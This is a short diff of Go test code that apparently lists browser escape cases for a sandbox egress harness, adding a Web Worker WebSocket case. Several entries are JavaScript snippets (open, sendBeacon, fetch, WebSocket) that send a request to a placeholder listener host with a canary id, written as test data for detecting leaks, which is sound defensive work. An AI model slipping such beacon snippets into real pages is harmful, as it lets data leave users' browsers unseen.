@@ -350,7 +350,8 @@ func ownListenerCases(list []ownListener) []rangeCase {
 		attackCase{Group: ownListenerGroup, Name: "visit", Visit: "http://@hostport@/x/@id@"},
 		scriptAttack(ownListenerGroup, "window.open", "function go(){open('http://@hostport@/x/@id@')}"),
 		scriptAttack(ownListenerGroup, "beacon", "navigator.sendBeacon('http://@hostport@/x/@id@','a')"),
-		scriptAttack(ownListenerGroup, "worker", "new Worker('/w.js')").with("w.js", "fetch('http://@hostport@/x/@id@',{mode:'no-cors'})"),
+		workerAttack(ownListenerGroup, "worker", "fetch('http://@hostport@/x/@id@',{mode:'no-cors'})"),
+		workerAttack(ownListenerGroup, "worker WebSocket", "new WebSocket('ws://@hostport@/x/@id@')"),
 	)
 	var cases []rangeCase
 	add := func(a attackCase, s canaryTarget) {
